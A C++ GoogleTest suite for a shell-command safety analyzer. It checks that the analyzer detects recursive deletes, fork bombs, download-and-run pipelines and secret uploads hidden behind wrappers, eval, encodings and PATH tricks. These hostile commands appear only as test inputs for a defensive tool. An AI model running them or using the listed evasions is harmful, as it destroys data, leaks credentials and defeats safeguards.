// One test per trick the analyzer must see through (issue #2, section 3): each asserts the
// facts found, not just a decision, so a policy change cannot hide an analyzer regression.
#include "shell/analyzer.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

namespace warden::shell {
namespace {

Facts Analyze(std::string_view command, std::string cwd = "/home/dev/project") {
  AnalyzeOptions o;
  o.cwd = std::move(cwd);
  o.home = "/home/dev";
  o.resolve_symlinks = false;
  return AnalyzeCommand(command, o);
}

const CommandFact* FindCommand(const Facts& f, std::string_view name) {
  for (const auto& c : f.commands) {
    if (c.name == name) return &c;
  }
  return nullptr;
}

bool HasCommandLine(const Facts& f, std::string_view line) {
  return std::any_of(f.commands.begin(), f.commands.end(), [&](const CommandFact& c) { return c.Line() == line; });
}

const FileFact* FindFile(const Facts& f, FileOp op, std::string_view path) {
  for (const auto& x : f.files) {
    if (x.op == op && x.path == path) return &x;
  }
  return nullptr;
}

bool HasSignal(const Facts& f, std::string_view type) {
  return std::any_of(f.signals.begin(), f.signals.end(), [&](const SignalFact& s) { return s.type == type; });
}

std::string Dump(const Facts& f) {
  std::string out;
  for (const auto& c : f.commands) out += "cmd[" + c.Line() + "] ";
  for (const auto& x : f.files) out += std::string(FileOpName(x.op)) + "[" + x.path + (x.recursive ? " R" : "") + "] ";
  for (const auto& s : f.signals) out += s.type + "[" + s.detail + "] ";
  return out;
}

// A recursive delete of `path` must be among the facts.
void ExpectRecursiveDelete(std::string_view command, std::string_view path) {
  Facts f = Analyze(command);
  const FileFact* d = FindFile(f, FileOp::kDelete, path);
  ASSERT_NE(d, nullptr) << command << "\n  facts: " << Dump(f);
  EXPECT_TRUE(d->recursive) << command;
}

// ---- lists, pipelines, grouping -------------------------------------------------------------

TEST(AnalyzerTest, FindsCommandsInEveryKindOfList) {
  for (std::string_view sep : {";", "&&", "||", "|", "|&", "&", "\n"}) {
    std::string cmd = "ls " + std::string(sep) + " rm -rf /";
    Facts f = Analyze(cmd);
    EXPECT_NE(FindCommand(f, "ls"), nullptr) << cmd;
    EXPECT_TRUE(HasCommandLine(f, "rm -rf /")) << cmd << ": " << Dump(f);
  }
}

TEST(AnalyzerTest, FindsCommandsInSubshellsAndGroups) {
  ExpectRecursiveDelete("(rm -rf /)", "/");
  ExpectRecursiveDelete("{ rm -rf /; }", "/");
  ExpectRecursiveDelete("( cd /etc && { rm -rf .; } )", "/etc");
}

TEST(AnalyzerTest, SubshellCdDoesNotLeak) {
  Facts f = Analyze("(cd /) ; rm -rf build");
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/home/dev/project/build"), nullptr) << Dump(f);
  EXPECT_EQ(FindFile(f, FileOp::kDelete, "/build"), nullptr) << Dump(f);
}

// ---- substitutions ---------------------------------------------------------------------------

TEST(AnalyzerTest, CommandSubstitutionAnywhere) {
  ExpectRecursiveDelete("echo $(rm -rf ~)", "/home/dev");
  ExpectRecursiveDelete("echo `rm -rf ~`", "/home/dev");
  ExpectRecursiveDelete("echo \"result: $(rm -rf ~)\"", "/home/dev");
  ExpectRecursiveDelete("X=$(rm -rf ~)", "/home/dev");
  ExpectRecursiveDelete("export X=\"$(rm -rf ~)\"", "/home/dev");
  ExpectRecursiveDelete("local y=$(rm -rf ~)", "/home/dev");
  ExpectRecursiveDelete("echo ${X:-$(rm -rf ~)}", "/home/dev");
  ExpectRecursiveDelete("echo $(( $(rm -rf ~) + 1 ))", "/home/dev");
  ExpectRecursiveDelete("[[ -n $(rm -rf ~) ]]", "/home/dev");
  ExpectRecursiveDelete("a=(x $(rm -rf ~))", "/home/dev");
}

TEST(AnalyzerTest, ProcessSubstitution) {
  ExpectRecursiveDelete("diff <(rm -rf ~) b", "/home/dev");
  ExpectRecursiveDelete("echo hi > >(rm -rf ~)", "/home/dev");
  ExpectRecursiveDelete("cat < <(rm -rf ~)", "/home/dev");
}

TEST(AnalyzerTest, KnownSubstitutionOutputBecomesTheWord) {
  Facts f = Analyze("$(echo rm) -rf /");
  EXPECT_TRUE(HasCommandLine(f, "rm -rf /")) << Dump(f);
  EXPECT_FALSE(HasSignal(f, kSignalDynamicCommand));
}

// ---- here-documents and here-strings ---------------------------------------------------------

TEST(AnalyzerTest, HeredocFedToShell) {
  ExpectRecursiveDelete("bash <<EOF\nrm -rf /\nEOF", "/");
  ExpectRecursiveDelete("sh <<'X'\ncd / && rm -rf *\nX", "/*");
  ExpectRecursiveDelete("cat <<EOF | sh\nrm -rf ~\nEOF", "/home/dev");
}

TEST(AnalyzerTest, HereStringFedToShell) {
  ExpectRecursiveDelete("bash <<< 'rm -rf /'", "/");
  ExpectRecursiveDelete("source /dev/stdin <<< 'rm -rf /'", "/");
}

TEST(AnalyzerTest, EchoPipedIntoShellIsAnalyzed) {
  ExpectRecursiveDelete("echo 'rm -rf /' | bash", "/");
  ExpectRecursiveDelete("printf 'rm -rf /' | sh", "/");
}

TEST(AnalyzerTest, HeredocInputIsKnownToTheCommand) {
  Facts f = Analyze("psql <<SQL\nDROP TABLE users;\nSQL");
  const CommandFact* c = FindCommand(f, "psql");
  ASSERT_NE(c, nullptr);
  EXPECT_TRUE(c->stdin_known);
  EXPECT_NE(c->stdin_text.find("DROP TABLE"), std::string::npos);
}

// ---- control flow ---------------------------------------------------------------------------

TEST(AnalyzerTest, LoopsConditionalsFunctions) {
  ExpectRecursiveDelete("for i in 1 2; do rm -rf /; done", "/");
  ExpectRecursiveDelete("while true; do rm -rf /; done", "/");
  ExpectRecursiveDelete("until false; do rm -rf /; done", "/");
  ExpectRecursiveDelete("if true; then echo; else rm -rf /; fi", "/");
  ExpectRecursiveDelete("case x in x) rm -rf /;; esac", "/");
  ExpectRecursiveDelete("f() { rm -rf /; }; f", "/");
  ExpectRecursiveDelete("function g { rm -rf /; }", "/");
  ExpectRecursiveDelete("for ((i=0;i<1;i++)); do rm -rf /; done", "/");
  ExpectRecursiveDelete("! rm -rf /", "/");
}

TEST(AnalyzerTest, LoopVariablesTakeEachLiteralValue) {
  ExpectRecursiveDelete("for d in /etc /usr; do rm -rf \"$d\"; done", "/etc");
  ExpectRecursiveDelete("for d in /etc /usr; do rm -rf \"$d\"; done", "/usr");
}

TEST(AnalyzerTest, ForkBomb) {
  EXPECT_TRUE(HasSignal(Analyze(":(){ :|:& };:"), kSignalForkBomb));
  EXPECT_TRUE(HasSignal(Analyze("bomb() { bomb | bomb & }; bomb"), kSignalForkBomb));
  EXPECT_FALSE(HasSignal(Analyze("f() { echo hi; }; f | f"), kSignalForkBomb));
}

// ---- shells running strings -----------------------------------------------------------------

TEST(AnalyzerTest, ShellDashC) {
  for (std::string_view sh : {"bash", "sh", "zsh", "dash", "/bin/bash", "ksh"}) {
    ExpectRecursiveDelete(std::string(sh) + " -c 'rm -rf /'", "/");
  }
  ExpectRecursiveDelete("bash -lc 'rm -rf /'", "/");
  ExpectRecursiveDelete("bash -o pipefail -c 'rm -rf /'", "/");
  ExpectRecursiveDelete("bash -c \"bash -c 'rm -rf /'\"", "/");
}

TEST(AnalyzerTest, ShellNestingHasADepthLimit) {
  // Each eval parses its arguments again: twelve of them nest deeper than the limit (8).
  std::string cmd;
  for (int i = 0; i < 12; ++i) cmd += "eval ";
  Facts deep = Analyze(cmd + "rm -rf /");
  EXPECT_TRUE(HasSignal(deep, kSignalDepthLimit)) << Dump(deep);
  // Quoting nested bash -c grows exponentially, so size stops it first: still a fact.
  std::string nested = "rm -rf /";
  for (int i = 0; i < 12; ++i) {
    std::string quoted;
    for (char c : nested) quoted += c == '\'' ? std::string("'\\''") : std::string(1, c);
    nested = "bash -c '" + quoted + "'";
  }
  Facts big = Analyze(nested);
  EXPECT_TRUE(HasSignal(big, kSignalTooLarge) || HasSignal(big, kSignalDepthLimit)) << Dump(big);
  Facts shallow = Analyze("eval eval eval rm -rf /");
  EXPECT_FALSE(HasSignal(shallow, kSignalDepthLimit));
  EXPECT_NE(FindFile(shallow, FileOp::kDelete, "/"), nullptr);
}

TEST(AnalyzerTest, WrapperNestingHasADepthLimit) {
  // Wrappers do not re-parse, but each level is one more frame and one more copy of the line.
  std::string cmd;
  for (int i = 0; i < 100; ++i) cmd += "sudo ";
  Facts deep = Analyze(cmd + "rm -rf /");
  EXPECT_TRUE(HasSignal(deep, kSignalDepthLimit)) << Dump(deep);
  std::string finds = "rm -rf /";
  for (int i = 0; i < 80; ++i) finds = "find . -exec " + finds + " ;";
  EXPECT_TRUE(HasSignal(Analyze(finds), kSignalDepthLimit));
  Facts shallow = Analyze("sudo env nice timeout 5 nohup rm -rf /");
  EXPECT_FALSE(HasSignal(shallow, kSignalDepthLimit));
  EXPECT_NE(FindFile(shallow, FileOp::kDelete, "/"), nullptr);
}

TEST(AnalyzerTest, Eval) {
  ExpectRecursiveDelete("eval 'rm -rf /'", "/");
  ExpectRecursiveDelete("eval rm -rf /", "/");
  ExpectRecursiveDelete("X='rm -rf /'; eval \"$X\"", "/");
  EXPECT_TRUE(HasSignal(Analyze("eval \"$UNKNOWN\""), kSignalDynamicScript));
}

// ---- wrappers ---------------------------------------------------------------------------------

TEST(AnalyzerTest, WrappersAreUnwrapped) {
  const char* wrapped[] = {
      "sudo rm -rf /",
      "sudo -u root -- rm -rf /",
      "sudo -E -H rm -rf /",
      "doas rm -rf /",
      "doas -u root rm -rf /",
      "su -c 'rm -rf /'",
      "su - root -c 'rm -rf /'",
      "env rm -rf /",
      "env -i PATH=/bin rm -rf /",
      "env -u HOME -- rm -rf /",
      "env -S 'rm -rf /'",
      "command rm -rf /",
      "builtin command rm -rf /",
      "exec rm -rf /",
      "exec -a x rm -rf /",
      "nice rm -rf /",
      "nice -n 10 rm -rf /",
      "ionice -c3 rm -rf /",
      "nohup rm -rf / &",
      "timeout 10 rm -rf /",
      "timeout -s KILL 10s rm -rf /",
      "time rm -rf /",
      "stdbuf -oL rm -rf /",
      "setsid rm -rf /",
      "setsid -f rm -rf /",
      "watch rm -rf /",
      "watch -n 1 'rm -rf /'",
      "flock /tmp/lock rm -rf /",
      "flock /tmp/lock -c 'rm -rf /'",
      "script -c 'rm -rf /' /dev/null",
      "script -q -c 'rm -rf /'",
      "sudo env nice timeout 5 rm -rf /",
      "busybox rm -rf /",
  };
  for (const char* cmd : wrapped) ExpectRecursiveDelete(cmd, "/");
}

TEST(AnalyzerTest, WrapperFactsRecordTheChain) {
  Facts f = Analyze("sudo env nice rm -rf /");
  const CommandFact* rm = FindCommand(f, "rm");
  ASSERT_NE(rm, nullptr);
  EXPECT_TRUE(rm->privileged);
  EXPECT_EQ(rm->via, (std::vector<std::string>{"sudo", "env", "nice"}));
  EXPECT_NE(FindCommand(f, "sudo"), nullptr);  // the wrapper itself is a fact too
}

TEST(AnalyzerTest, EnvChdirChangesTheDirectory) {
  ExpectRecursiveDelete("env -C / rm -rf *", "/*");
  ExpectRecursiveDelete("env --chdir=/etc rm -rf .", "/etc");
}

TEST(AnalyzerTest, CommandDashVIsAQuery) {
  Facts f = Analyze("command -v rm");
  EXPECT_EQ(FindCommand(f, "rm"), nullptr);
}

TEST(AnalyzerTest, Xargs) {
  Facts f = Analyze("xargs rm -rf");
  const CommandFact* rm = FindCommand(f, "rm");
  ASSERT_NE(rm, nullptr) << Dump(f);
  EXPECT_EQ(rm->via, std::vector<std::string>{"xargs"});
  bool dynamic_delete = std::any_of(f.files.begin(), f.files.end(),
                                    [](const FileFact& x) { return x.op == FileOp::kDelete && x.dynamic; });
  EXPECT_TRUE(dynamic_delete) << Dump(f);
  ExpectRecursiveDelete("echo / | xargs rm -rf", "/");
  ExpectRecursiveDelete("find / -name x | xargs -I{} rm -rf {}", "/**/x");
}

TEST(AnalyzerTest, Find) {
  ExpectRecursiveDelete("find / -delete", "/");
  ExpectRecursiveDelete("find / -type f -delete", "/");
  ExpectRecursiveDelete("find ~ -exec rm {} \\;", "/home/dev");
  ExpectRecursiveDelete("find ~ -execdir rm -f {} +", "/home/dev");
  ExpectRecursiveDelete("find /etc -ok rm {} \\;", "/etc");
  ExpectRecursiveDelete("find . -name '*.tmp' -delete", "/home/dev/project/**/[!.]*.tmp");
  ExpectRecursiveDelete("find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;", "/");
}

// Slices and indirections of the positional parameters are as known as the parameters.
// Substrings of known values: ${x:o}, ${x:o:l}, negative offsets and lengths, the offset
// left out (${x::-1}).
TEST(AnalyzerTest, SubstringsOfKnownValues) {
  for (std::string_view cmd : {"X=/X; rm -rf \"${X::-1}\"", "X=/XY; rm -rf \"${X:0:-2}\"", "X=a/; rm -rf \"${X: -1}\"",
                               "X=x/; rm -rf \"${X:1}\"", "X=/XX; rm -rf \"${X::1}\""}) {
    ExpectRecursiveDelete(cmd, "/");
  }
}

TEST(AnalyzerTest, PositionalSlicesAndIndirection) {
  for (std::string_view cmd : {"set -- rm -rf /; \"${@:1}\"", "set -- x rm -rf /; \"${@:2}\"",
                               "set -- a /; rm -rf \"${@: -1}\"", "set -- a /; rm -rf \"${!#}\"",
                               "set -- a b c d e f g h i /; rm -rf \"${10}\"", "f() { \"$1\" \"${@:2}\"; }; f rm -rf /",
                               "p=d; d=/; rm -rf \"${!p}\""}) {
    ExpectRecursiveDelete(cmd, "/");
  }
}

// while read …; do …; done over known input runs its body once per line with what read took;
// over unknown input the variables stay unknown, and more lines than For takes are not unrolled.
TEST(AnalyzerTest, ReadLoopsOverKnownInput) {
  for (std::string_view cmd : {"while read -r d; do rm -rf \"$d\"; done <<< /", "echo / | while read d; do rm -rf $d; done",
                               "printf 'x\\n/\\n' | while IFS= read -r d; do rm -rf \"$d\"; done",
                               "while read -r a b; do $a -rf $b; done <<< 'rm /'",
                               "while read -r l; do eval \"$l\"; done <<< 'rm -rf /'"}) {
    ExpectRecursiveDelete(cmd, "/");
  }
  Facts f = Analyze("while read -r d; do rm -rf \"$d\"; done < list.txt");
  EXPECT_FALSE(HasCommandLine(f, "rm -rf /")) << Dump(f);
  f = Analyze("printf '1\\n2\\n3\\n4\\n5\\n6\\n7\\n8\\n9\\n' | while read d; do rm -rf \"/x/$d\"; done");
  EXPECT_FALSE(HasCommandLine(f, "rm -rf /x/1")) << "nine lines: not unrolled\n" << Dump(f);
}

// A command looked up in a PATH directory where the line wrote a script of its name runs that
// script: PATH set for the command, exported, or with an unknown rest (PATH=/tmp:$PATH).
TEST(AnalyzerTest, ScriptsWrittenIntoPath) {
  for (std::string_view cmd : {"echo 'rm -rf /' > /tmp/ls; chmod +x /tmp/ls; PATH=/tmp:$PATH ls",
                               "echo 'rm -rf /' > /tmp/ls; export PATH=/tmp:$PATH; ls",
                               "echo 'rm -rf \"$1\"' > /tmp/make; PATH=/tmp make /",
                               "echo 'rm -rf /' > /tmp/git-x; PATH=/tmp:$PATH git x"}) {
    ExpectRecursiveDelete(cmd, "/");
  }
  // A directory put on PATH in any way (after an unknown one, appended, by env, read, printf
  // -v): its scripts may run as any command — analyzed, marked speculative.
  for (std::string_view cmd : {"echo 'rm -rf /' > /tmp/ls; PATH=$X:/tmp ls", "echo 'rm -rf /' > /tmp/t; PATH+=:/tmp; t",
                               "echo 'rm -rf /' > /tmp/node; env PATH=/tmp:$PATH npm test",
                               "echo 'rm -rf /' > /tmp/ls; printf -v PATH '/tmp:%s' \"$PATH\"; ls",
                               "echo 'rm -rf /' > /tmp/ls; PATH=\"/tmp${PATH:+:$PATH}\" ls"}) {
    Facts f = Analyze(cmd);
    const auto rm = std::find_if(f.commands.begin(), f.commands.end(), [](const CommandFact& c) { return c.Line() == "rm -rf /"; });
    EXPECT_NE(rm, f.commands.end()) << cmd << ": " << Dump(f);
  }
  Facts f = Analyze("echo 'rm -rf /' > /tmp/x/ls; PATH=/usr/local/bin:$PATH ls");
  EXPECT_FALSE(HasCommandLine(f, "rm -rf /")) << "not a directory it wrote to: " << Dump(f);
}

// A script run with arguments sees them as $1…: bash -s ARGS, bash FILE ARGS, bash <(…) ARGS,
// ./script ARGS; inline code's own argv reads (sys.argv[1], $ARGV[0], process.argv[1]) are its
// arguments; escapes in code strings are what the language makes of them.
TEST(AnalyzerTest, ArgumentsReachScriptsAndCode) {
  for (std::string_view cmd : {"bash -s / <<< 'rm -rf \"$1\"'", "echo 'rm -rf \"$1\"' | bash -s -- /",
                               "bash <(echo 'rm -rf \"$1\"') /", "echo 'rm -rf \"$@\"' > /tmp/d.sh; sh /tmp/d.sh /",
                               "printf 'rm -rf \"$1\"\\n' > ./d.sh; chmod +x ./d.sh; ./d.sh /",
                               "python3 -c 'import os, sys; os.system(sys.argv[1])' 'rm -rf /'",
                               "perl -e 'system($ARGV[0])' 'rm -rf /'",
                               "node -e \"require('child_process').execSync(process.argv[1])\" 'rm -rf /'",
                               "python3 -c 'import os;os.system(\"\\x72\\x6d -rf /\")'",
                               "echo -e '\\0162m -rf /' | bash", "Rscript -e 'system2(\"rm\", c(\"-rf\", \"/\"))'",
                               "Rscript -e 'system2(\"sh\", c(\"-c\", shQuote(\"rm -rf /\")))'"}) {
    ExpectRecursiveDelete(cmd, "/");
  }
}

// ---- words ----------------------------------------------------------------------------------

TEST(AnalyzerTest, AssignmentPrefixes) {
  Facts f = Analyze("FOO=bar BAZ=$(id) rm -rf /");
  EXPECT_TRUE(HasCommandLine(f, "rm -rf /")) << Dump(f);
  EXPECT_NE(FindCommand(f, "id"), nullptr);
}

TEST(AnalyzerTest, QuotedAndEscapedCommandNames) {
  for (std::string_view cmd : {"\"rm\" -rf /", "'rm' -rf /", "r\\m -rf /", "\\rm -rf /", "r''m -rf /",
                               "\"r\"m -rf /", "$'\\x72\\x6d' -rf /", "$'\\162m' -rf /", "r\"\"m -rf /"}) {
    ExpectRecursiveDelete(cmd, "/");
  }
}

TEST(AnalyzerTest, PathsToBinaries) {
  for (std::string_view cmd : {"/usr/bin/rm -rf /", "/bin/rm -rf /", "./rm -rf /", "../../bin/rm -rf /"}) {
    Facts f = Analyze(cmd);
    EXPECT_NE(FindCommand(f, "rm"), nullptr) << cmd;
    ExpectRecursiveDelete(cmd, "/");
  }
}

TEST(AnalyzerTest, LineContinuations) {
  ExpectRecursiveDelete("rm \\\n -rf \\\n /", "/");
  ExpectRecursiveDelete("r\\\nm -rf /", "/");
}

TEST(AnalyzerTest, HomeSpellings) {
  for (std::string_view cmd : {"rm -rf ~", "rm -rf ~/", "rm -rf $HOME", "rm -rf ${HOME}", "rm -rf \"$HOME\"",
                               "rm -rf \"${HOME}/\"", "rm -rf ~/.", "cd && rm -rf .", "cd ~ && rm -rf ."}) {
    ExpectRecursiveDelete(cmd, "/home/dev");
  }
  ExpectRecursiveDelete("rm -rf ~root", "/root");
  // A quoted tilde is a literal directory named "~".
  ExpectRecursiveDelete("rm -rf '~'", "/home/dev/project/~");
}

TEST(AnalyzerTest, VariablesAssignedEarlier) {
  ExpectRecursiveDelete("X=/; rm -rf $X", "/");
  ExpectRecursiveDelete("D=/etc; rm -rf \"$D/\"", "/etc");
  ExpectRecursiveDelete("export T=/usr; rm -rf ${T}", "/usr");
  Facts f = Analyze("X='rm -rf /'; $X");
  EXPECT_TRUE(HasCommandLine(f, "rm -rf /")) << Dump(f);
}

TEST(AnalyzerTest, UnknownVariablesAreDynamic) {
  Facts f = Analyze("rm -rf $DIR");
  bool dynamic = std::any_of(f.files.begin(), f.files.end(), [](const FileFact& x) { return x.dynamic; });
  EXPECT_TRUE(dynamic) << Dump(f);
  EXPECT_TRUE(HasSignal(Analyze("$CMD -rf /"), kSignalDynamicCommand));
  EXPECT_TRUE(HasSignal(Analyze("/bin/r? -rf /"), kSignalDynamicCommand));
}

TEST(AnalyzerTest, StaticDefaultsAreTheValue) {
  for (std::string_view cmd : {"rm -rf ${X:-/}", "rm -rf ${X:=/}", ": ${D:=/}; rm -rf $D", "X=''; rm -rf ${X:-/}",
                               "rm -rf ${1-/}"}) {
    Facts f = Analyze(cmd);
    EXPECT_NE(FindFile(f, FileOp::kDelete, "/"), nullptr) << cmd << ": " << Dump(f);
  }
  // A variable the command set keeps its value; one set from unknown output stays unknown.
  Facts f = Analyze("X=build; rm -rf ${X:-/}");
  EXPECT_EQ(FindFile(f, FileOp::kDelete, "/"), nullptr) << Dump(f);
  f = Analyze("X=$(cat f); rm -rf ${X:-/}");
  EXPECT_EQ(FindFile(f, FileOp::kDelete, "/"), nullptr) << Dump(f);
}

// ---- working directory ------------------------------------------------------------------------

TEST(AnalyzerTest, CdEarlierInTheList) {
  ExpectRecursiveDelete("cd / && rm -rf *", "/*");
  ExpectRecursiveDelete("cd /; rm -rf *", "/*");
  ExpectRecursiveDelete("cd /tmp && cd .. && rm -rf *", "/*");
  ExpectRecursiveDelete("cd .. && rm -rf project", "/home/dev/project");
  ExpectRecursiveDelete("pushd / && rm -rf *", "/*");
  ExpectRecursiveDelete("cd ../.. && rm -rf dev", "/home/dev");
}

TEST(AnalyzerTest, CdInOneBranchKeepsBothDirectories) {
  Facts f = Analyze("if x; then cd /; fi; rm -rf *");
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/*"), nullptr) << Dump(f);
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/home/dev/project/*"), nullptr) << Dump(f);
}

TEST(AnalyzerTest, CdToUnknownMakesPathsDynamic) {
  Facts f = Analyze("cd $X && rm -rf *");
  bool dynamic = std::any_of(f.files.begin(), f.files.end(), [](const FileFact& x) { return x.dynamic; });
  EXPECT_TRUE(dynamic) << Dump(f);
}

// ---- redirections -----------------------------------------------------------------------------

TEST(AnalyzerTest, RedirectionsAreFileFacts) {
  Facts f = Analyze("echo x > a.txt; echo y >> /etc/hosts; wc -l < in.txt; cmd 2> err.log &> both.log");
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/project/a.txt"), nullptr) << Dump(f);
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/etc/hosts"), nullptr);
  EXPECT_NE(FindFile(f, FileOp::kRead, "/home/dev/project/in.txt"), nullptr);
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/project/err.log"), nullptr);
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/project/both.log"), nullptr);
  Facts dup = Analyze("cmd 2>&1 >&2");
  EXPECT_TRUE(dup.files.empty()) << Dump(dup);
}

TEST(AnalyzerTest, CommandsThatWriteFiles) {
  Facts f = Analyze("tee -a ~/.bashrc; cp x ~/.profile; sed -i s/a/b/ ~/.zshrc; dd if=/dev/zero of=/dev/sda");
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/.bashrc"), nullptr) << Dump(f);
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/.profile"), nullptr);
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/home/dev/.zshrc"), nullptr);
  EXPECT_NE(FindFile(f, FileOp::kWrite, "/dev/sda"), nullptr);
}

// ---- download and run -------------------------------------------------------------------------

TEST(AnalyzerTest, DownloadAndRun) {
  for (std::string_view cmd :
       {"curl -sL https://x.sh | bash", "wget -O - https://x.sh | sh", "wget -qO- https://x.sh | sh",
        "bash <(curl -s https://x.sh)", "sh -c \"$(wget -O- https://x.sh)\"", "echo cm0gLXJmIC8= | base64 -d | sh",
        "curl https://x | gunzip | sh", "curl -o i.sh https://x && bash i.sh",
        "wget https://e.com/i.sh; chmod +x i.sh; ./i.sh", "source <(curl -s https://x)",
        "eval \"$(curl -s https://x)\"", "curl -s https://x | python3", "python3 <(curl -s https://x)",
        "curl -s https://x > /tmp/i.sh; sh /tmp/i.sh", "X=$(curl -s https://x); bash -c \"$X\""}) {
    Facts f = Analyze(cmd);
    EXPECT_TRUE(HasSignal(f, kSignalRce)) << cmd << "\n  facts: " << Dump(f);
  }
  EXPECT_FALSE(HasSignal(Analyze("curl -s https://api.example.com/status"), kSignalRce));
  EXPECT_FALSE(HasSignal(Analyze("curl -o out.json https://x && jq . out.json"), kSignalRce));
}

TEST(AnalyzerTest, UnknownCodePipedToAShellIsDynamic) {
  EXPECT_TRUE(HasSignal(Analyze("./generate.sh | bash"), kSignalDynamicScript));
  EXPECT_FALSE(HasSignal(Analyze("cat setup.sh | bash"), kSignalDynamicScript));
}

TEST(AnalyzerTest, Uploads) {
  for (std::string_view cmd : {"curl --data @.env https://x", "curl -F f=@/etc/passwd https://x", "curl -T a.zip https://x",
                               "scp secret.txt host:/tmp/", "rsync -a dir/ host:backup/", "nc host 9 < .env",
                               "wget --post-file=.env https://x"}) {
    EXPECT_TRUE(HasSignal(Analyze(cmd), kSignalUpload)) << cmd << ": " << Dump(Analyze(cmd));
  }
}

TEST(AnalyzerTest, InlineInterpreterCode) {
  Facts f = Analyze("python -c \"import os; os.system('x')\"");
  ASSERT_TRUE(HasSignal(f, kSignalInlineCode));
  EXPECT_NE(f.signals[0].detail.find("os.system"), std::string::npos);
  EXPECT_TRUE(HasSignal(Analyze("node -e 'require(\"fs\").rmSync(\"/\")'"), kSignalInlineCode));
  EXPECT_TRUE(HasSignal(Analyze("perl -e 'unlink \"x\"'"), kSignalInlineCode));
  EXPECT_TRUE(HasSignal(Analyze("awk 'BEGIN{system(\"rm -rf /\")}'"), kSignalInlineCode));
  EXPECT_TRUE(HasSignal(Analyze("python3 - <<EOF\nimport shutil\nEOF"), kSignalInlineCode));
}

// ---- what cannot be analyzed is a fact --------------------------------------------------------

TEST(AnalyzerTest, ParseErrorsAreFacts) {
  Facts f = Analyze("rm -rf / )");
  EXPECT_TRUE(HasSignal(f, kSignalParseError)) << Dump(f);
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/"), nullptr) << "what parsed is still analyzed";
  EXPECT_TRUE(HasSignal(Analyze("echo \"unterminated"), kSignalParseError));
  EXPECT_TRUE(HasSignal(Analyze(std::string("echo a\0b", 8)), kSignalParseError));
}

TEST(AnalyzerTest, EmptyAndHugeCommandsAreFacts) {
  EXPECT_TRUE(HasSignal(Analyze(""), kSignalEmpty));
  EXPECT_TRUE(HasSignal(Analyze("   \n\t "), kSignalEmpty));
  EXPECT_TRUE(HasSignal(Analyze("# just a comment"), kSignalEmpty));
  EXPECT_TRUE(HasSignal(Analyze(std::string(300 * 1024, 'a')), kSignalTooLarge));
}

TEST(AnalyzerTest, DeepNestingIsCutOffNotCrashed) {
  std::string deep;
  for (int i = 0; i < 5000; ++i) deep += "$(";
  deep += "rm -rf /";
  for (int i = 0; i < 5000; ++i) deep += ")";
  Facts f = Analyze(deep);
  EXPECT_TRUE(HasSignal(f, kSignalDepthLimit)) << "signals: " << f.signals.size();
}

TEST(AnalyzerTest, HundredKilobyteCommandIsAnalyzed) {
  std::string big = "echo ";
  while (big.size() < 100 * 1024) big += "word ";
  big += "; rm -rf /";
  ExpectRecursiveDelete(big, "/");
}

TEST(AnalyzerTest, ArgvRequestsGoThroughTheSameUnwrapping) {
  AnalyzeOptions o;
  o.cwd = "/home/dev/project";
  o.home = "/home/dev";
  o.resolve_symlinks = false;
  Facts f = AnalyzeArgv({"sudo", "bash", "-c", "rm -rf /"}, o);
  EXPECT_NE(FindFile(f, FileOp::kDelete, "/"), nullptr) << Dump(f);
}

// ---- ordinary work stays ordinary -------------------------------------------------------------

TEST(AnalyzerTest, OrdinaryCommandsHaveNoSignals) {
  for (std::string_view cmd : {"ls -la", "git status --short", "make -j4", "cmake --build build", "npm run lint",
                               "rm -rf build/", "for f in *.md; do wc -l \"$f\"; done", "cat src/main.cpp | grep TODO",
                               "FOO=bar ./run.sh", "git commit -am \"docs: update\"", "mkdir -p build && cd build"}) {
    Facts f = Analyze(cmd);
    EXPECT_TRUE(f.signals.empty()) << cmd << ": " << Dump(f);
  }
}

}  // namespace
}  // namespace warden::shell
